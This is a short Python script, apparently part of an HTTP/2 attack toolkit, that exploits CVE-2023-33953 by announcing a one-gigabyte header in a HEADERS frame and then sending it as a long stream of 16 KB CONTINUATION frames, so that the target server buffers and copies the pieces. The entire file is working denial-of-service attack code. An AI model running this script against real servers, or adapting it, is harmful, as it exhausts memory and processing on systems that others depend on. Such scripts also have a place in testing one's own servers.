#!/usr/bin/python3
"""A header of a gigabyte in small pieces (CVE-2023-33953): the server may keep them, and copy them with each piece."""

from stranger import CONTINUATION, HEADERS, REQUEST, frame, header, main

SIZE = 1 << 30
PIECE = 16 << 10


def attack(connection, over):
    begun = header(b"x-huge", b"", SIZE)  # its name, and how long it will be
    connection.send(frame(HEADERS, 0, 1, REQUEST + begun))
    piece = frame(CONTINUATION, 0, 1, b"x" * PIECE)
    for _ in range(SIZE // PIECE):
        if over():
            return
        connection.send(piece)
        connection.read(0)


if __name__ == "__main__":
    main(attack, __doc__)
